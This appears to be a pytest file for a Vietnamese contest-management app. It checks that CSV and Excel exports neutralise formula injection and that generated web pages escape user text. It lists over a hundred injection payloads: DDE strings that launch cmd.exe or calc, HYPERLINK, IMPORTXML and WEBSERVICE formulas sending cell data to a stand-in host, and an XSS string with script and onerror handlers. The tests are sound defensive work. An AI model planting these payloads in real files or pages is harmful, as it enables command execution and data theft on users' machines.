"""Formula payloads in every text that people supply: none is live in Excel's eyes, in no file that we write.

Excel is modelled by its rule: a cell whose first character, once the quotes around the field are off, is ``=``, ``+``,
``-``, ``@``, a tab or a return may be taken for a formula. Which character parts the fields is the reader's setting.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest

from chalicelib.config import config
from chalicelib.domain import roster
from chalicelib.domain.exports import Named, read_csv, units_csv, winners_csv
from chalicelib.domain.faults import Faulty
from chalicelib.domain.formulas import guarded, looks_like_formula
from chalicelib.domain.prizes import PrizeRow
from chalicelib.domain.sheets import Table
from chalicelib.domain.units import UnitRow
from organizer import tables
from organizer.people import codes_kept
from organizer.workbooks import write_question_template, write_roster_template
from tests.factories import (
    AN,
    CLOSING_BEGINS,
    CONTEST,
    FIRST,
    OPENS,
    RESULTS,
    make_bank,
    make_definition,
    make_person,
    nonce,
)
from tests.organizer.test_spreadsheets import DEFINITION
from tests.town import Town, all_right
from tests.watch import contents

ACTS = (
    "1+1",
    "cmd|'/C calc'!A0",
    "SUM(1+9)*cmd|' /C calc'!A0",
    'HYPERLINK("http://example.test/?x="&A1,"Bấm vào đây")',
    'IMPORTXML(CONCAT("http://example.test/?x=",A1),"//a")',
    'WEBSERVICE("http://example.test/")',
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
)
BEGINNINGS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "=-", " =", "'=", '"=', "“=", "\u00a0=", "\u3000＝")
BREAKING_OUT = (
    '","=1+1',
    '"\n=1+1',
    '"\r=1+1',
    '";=1+1;"',
    "An;=1+1",
    "An; +1+1",
    "An；＝1+1",
    "An;'=1+1",
    "An\t=1+1",
    "An\n=1+1",
    "An\r=1+1",
    "An\r\n@SUM(A1)",
    'An",=1+1,"',
    "An,=1+1",
    "An, -1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\u2060@SUM(A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "+2+3+cmd|' /C calc'!D2",
    "%0A-3+3+cmd|' /C calc'!D2",
    ";=1+1",
    "''=1",
)
PAYLOADS = [beginning + act for beginning in BEGINNINGS for act in ACTS] + list(BREAKING_OUT)
HARMLESS = ["Nguyễn Văn An", "Trường Tiểu học “Kim Đồng”", "Phòng Kế hoạch - Tài chính", "Tổ 1+2", "A, B và C", 'Khối "A"']
LIVE = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def live(data: bytes, separator: str) -> list[str]:
    """Return the cells of a CSV file that Excel could take for formulas where fields are parted by ``separator``."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator)
    return [cell for row in rows for cell in row if cell.startswith(LIVE)]


def taken(payload: str) -> bool:
    """Whether a roster with ``payload`` for a unit's name would be taken; people's names have to be names besides."""
    row = ["Nguyễn Văn An", "CB001", payload, "", "", "", ""]
    try:
        roster.read_roster(Table("a.xlsx", "Thí sinh", [[column.header for column in roster.COLUMNS], row]), DEFINITION)
    except Faulty:
        return False
    return True


def test_there_are_a_hundred_payloads_and_more():
    assert len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_gets_into_a_roster_is_live_in_no_file(payload: str, tmp_path: Path):
    """What begins like a formula doesn't get in; what does is no formula in any file, whatever parts its cells."""
    name = " ".join(payload.split())
    if not taken(payload):
        assert looks_like_formula(payload) or not payload.isprintable()
        return

    files = [winners(name), units(name), codes(name, tmp_path)]

    assert [live(data, separator) for data in files for separator in ",;\t"] == [[]] * 9


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_guard_stands_even_before_what_should_never_have_got_in(payload: str, tmp_path: Path):
    assert live(codes(payload, tmp_path), ",") == []
    assert live(guarded(" ".join(payload.split())).encode(), ";") == []
    assert [cell for cell in live(winners(payload), ",") + live(units(payload), ",") if cell[0].isascii()] == []


@pytest.mark.parametrize("name", HARMLESS)
def test_ordinary_names_stay_as_they_are(name: str, tmp_path: Path):
    assert taken(name)
    assert guarded(name) == name
    assert next(read_csv(io.BytesIO(winners(name))))["full_name"] == name


def winners(name: str) -> bytes:
    rows = [PrizeRow("nhat", 1, "a" * 26, 1, 1_000_000, "", "alone")]
    return winners_csv(rows, {"a" * 26: Named(name, name)}).data


def units(name: str) -> bytes:
    return units_csv([UnitRow("so", name, "", 1, 1, 1, 1, 1, 1, 0)]).data


def codes(name: str, folder: Path) -> bytes:
    path = folder / "codes.csv"
    with codes_kept(path) as keep:
        keep([{"full_name": name, "identifier": name, "unit": name, "code": "4X7K-9QTM"}])
    data = path.read_bytes()
    path.unlink()
    return data


def formulas(path: Path) -> Iterator[str]:
    """Yield every cell of a workbook that is a formula or a link."""
    workbook = openpyxl.load_workbook(path)
    for sheet in workbook:
        yield from (cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f" or cell.hyperlink)
    workbook.close()


def test_no_cell_of_a_workbook_that_we_write_is_a_formula(tmp_path: Path):
    links = ["http://example.test", "internal:'A'!A1", "external:c:\\a.xlsx", "mailto:a@example.test", "{=SUM(A1:A2)}"]
    texts = [*PAYLOADS, *links]
    bodies = [body.model_copy(update={"name": text}) for body in DEFINITION.excluded_bodies for text in texts]
    classes = [each.model_copy(update={"name": text}) for each in DEFINITION.unit_classes for text in texts]
    paper = DEFINITION.paper.model_copy(update={"blueprint": dict.fromkeys(texts, 1)})
    definition = DEFINITION.model_copy(update={"excluded_bodies": bodies, "unit_classes": classes, "paper": paper})
    names = ("won.xlsx", "questions.xlsx", "roster.xlsx")
    won, questions, people = (tmp_path / name for name in names)

    tables.write_workbook(won, [tables.Sheet(FIRST, [tables.Column(text) for text in texts], [texts, texts])])
    write_question_template(questions, definition)
    write_roster_template(people, definition)

    assert [list(formulas(path)) for path in (won, questions, people)] == [[], [], []]
    cells = [cell.value for cell in openpyxl.load_workbook(won).active[2]]
    assert cells[0] == texts[0]


MARKUP = '</title></script><script>alert(1)</script><img src=x onerror=\'alert(1)\'>" onmouseover="alert(1)" {{7*7}} &lt;'


class Elements(HTMLParser):
    """The elements of a page, each with the names of its attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(name for name, _ in attrs)))


def pages(town: Town, text: str) -> dict[str, str]:
    """Run a contest whose every text is ``text``, and return the pages on its site."""
    definition = make_definition(
        **dict.fromkeys(("title", "short_title", "organizer", "who_may"), text),
        plan=make_definition()["plan"] | {"title": text, "issuer": text},
        rules=[{"heading": text, "text": [text]}],
        contact=dict.fromkeys(("office", "phone", "email", "address"), text),
        prizes=[{"id": "nhat", "name": text, "number": 2, "vnd": 1_000_000}],
        excluded_bodies=[{"id": "ban-to-chuc", "name": text, "clause": text}],
        unit_classes=[{"id": "so", "name": text}],
        assumptions=[dict.fromkeys(("clause", "choice", "reason"), text) | {"field": "precision"}],
    )
    person = make_person("Nguyễn Văn An", AN, unit_name=text)
    town.settle(definition, banks=[make_bank(FIRST)], people=[person], units=[], ready=[FIRST])
    device = town.at(OPENS).phone(AN)
    paper = device.start(nonce(1))
    device.hand_in(all_right(paper), nonce(2), prediction="1")
    town.at(CLOSING_BEGINS).tick()
    town.at(RESULTS).tick()
    return {name: data.decode() for name, data in contents(config().site_bucket).items() if name.endswith(".html")}


def test_no_text_becomes_a_part_of_a_page(village: Town):
    found = {name: Elements(page).found for name, page in pages(village, MARKUP).items()}

    of_contest = {f"{CONTEST}/{page}.html" for page in ("index", "notice", "don-vi")}
    assert set(found) == {"index.html", *of_contest, f"{CONTEST}/{FIRST}/index.html"}
    elements = [element for each in found.values() for element in each]
    assert [
        element for element in elements if element[0] == "img" or any(name.startswith("on") for name in element[1])
    ] == []
    assert {names for tag, names in elements if tag == "script"} <= {("type", "src"), ("type", "id")}
    assert len([tag for tag, _ in elements if tag == "title"]) == 5
